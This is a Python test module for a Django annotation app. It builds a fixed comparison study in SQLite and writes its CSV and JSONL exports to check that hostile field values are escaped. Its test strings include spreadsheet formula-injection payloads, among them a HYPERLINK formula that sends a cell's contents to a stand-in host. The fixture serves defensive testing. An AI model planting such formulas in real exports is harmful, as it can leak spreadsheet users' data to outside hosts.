"""One judged study written identically into any database, and its exports: PostgreSQL and SQLite compared.

The test suite builds the study in its PostgreSQL test database and runs this module in a subprocess on a
fresh SQLite file (`python -m tests.export_twin OUT_DIR`, DATABASE_URL naming the file), so the export paths
of the two databases (COPY and json_build_object on PostgreSQL, Python's writers on SQLite) meet the same
rows. Every value is fixed here (primary keys, public ids, sides, times); the texts are the hostile ones.
"""

from __future__ import annotations

import os
import sys
import uuid
from datetime import datetime, timezone
from pathlib import Path

TRICKY = [
    'say "quoted" twice ""', "a lone\rcarriage return", "a lone\nline feed", "a\r\nCRLF", "commas, everywhere,",
    "=HYPERLINK(\"https://x.example/?q=\"&A1)", "+1+1", "-2 (a list item?)", "@SUM(1,2)", "\tstarts with a tab",
    "\rstarts with CR", "unicode: é 漢字 🎉 \u2028 end", "back\\slash \\. and \\N", "ends with CR\r", "",
]
EXPORTS = [("csv", False, False), ("csv", True, False), ("csv", False, True), ("jsonl", False, True)]
BASE = 7_000_000  # explicit primary keys, far above what the test database's sequences hand out


def tricky(index: int) -> str:
    return TRICKY[index % len(TRICKY)]


def build_twin_study():
    from django.contrib.auth import get_user_model

    from annotation.datasets.models import Dataset, DatasetRow
    from annotation.evaluation.models import ComparisonItem, Judgment, Study
    from generation.models import GenerationRun, ModelSpec, Response, RunStatus

    User = get_user_model()
    people = [User.objects.create(pk=BASE + i, username=name) for i, name in enumerate(("@crowd", "=crowd", "plain-crowd"))]
    dataset = Dataset.objects.create(pk=BASE, name="export-twin", split="test", content_hash="0" * 64, row_count=len(TRICKY))
    rows = [DatasetRow.objects.create(pk=BASE + i, dataset=dataset, position=i, source="authored",
                                      conversations=[tricky(i), tricky(i + 3)] if i % 4 == 0 else [tricky(i)])
            for i in range(len(TRICKY))]
    runs = {}
    for i, name in enumerate(("lima-twin", '=alpaca, "65b"')):
        model = ModelSpec.objects.create(pk=BASE + i, name=name, backend="imported")
        runs[name] = GenerationRun.objects.create(pk=BASE + i, model=model, dataset=dataset, decoding={}, total=len(rows),
                                                  status=RunStatus.COMPLETED)
    responses = {(name, row.pk): Response.objects.create(pk=BASE + 100 * i + row.position, run=run, row=row,
                                                         text=tricky(row.position + 5 * i) or "x")
                 for i, (name, run) in enumerate(runs.items()) for row in rows}
    study = Study.objects.create(pk=BASE, name="export twin", dataset=dataset, target_run=runs["lima-twin"], overlap=3,
                                 agreement_subset=0, state=Study.State.CLOSED)
    study.baseline_runs.set([runs['=alpaca, "65b"']])
    study.annotators.set(people)
    for row in rows:
        target, baseline = responses[("lima-twin", row.pk)], responses[('=alpaca, "65b"', row.pk)]
        target_is_a = row.position % 2 == 0
        text_a, text_b = (target.text, baseline.text) if target_is_a else (baseline.text, target.text)
        item = ComparisonItem.objects.create(
            pk=BASE + row.position, study=study, public_id=uuid.UUID(int=BASE + row.position), row=row, target_response=target,
            baseline_response=baseline, baseline_run=runs['=alpaca, "65b"'], target_is_a=target_is_a, text_a=text_a,
            text_b=text_b, capacity=3, assigned_count=3, order_key=row.position)
        for n, person in enumerate(people):
            side = ("a", "b", "tie")[(row.position + n) % 3]
            verdict = "tie" if side == "tie" else "target" if (side == "a") == target_is_a else "baseline"
            judgment = Judgment.objects.create(pk=BASE + 10 * row.position + n, item=item, annotator=person, side=side,
                                               verdict=verdict, reason=tricky(row.position + n + 7),
                                               seconds=(20.0, 0.5, None, 12.25, 3.0)[(row.position + n) % 5])
            moment = datetime(2026, 12, 3, 10, row.position, n, 123 * (n + 1), tzinfo=timezone.utc)
            Judgment.objects.filter(pk=judgment.pk).update(created_at=moment)
    return study


def write_exports(study, out: Path) -> None:
    from annotation.evaluation.exports import study_export_chunks

    for fmt, raw, identities in EXPORTS:
        chunks = study_export_chunks(study, "judgments", fmt, identities=identities, raw=raw)
        (out / f"judgments-{int(raw)}{int(identities)}.{fmt}").write_bytes(b"".join(chunks))


def main(out: str) -> None:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "lima_site.settings")
    import django

    django.setup()
    from django.core.management import call_command
    from django.db import connection

    assert connection.vendor == "sqlite", connection.vendor
    call_command("migrate", verbosity=0)
    write_exports(build_twin_study(), Path(out))


if __name__ == "__main__":
    main(sys.argv[1])
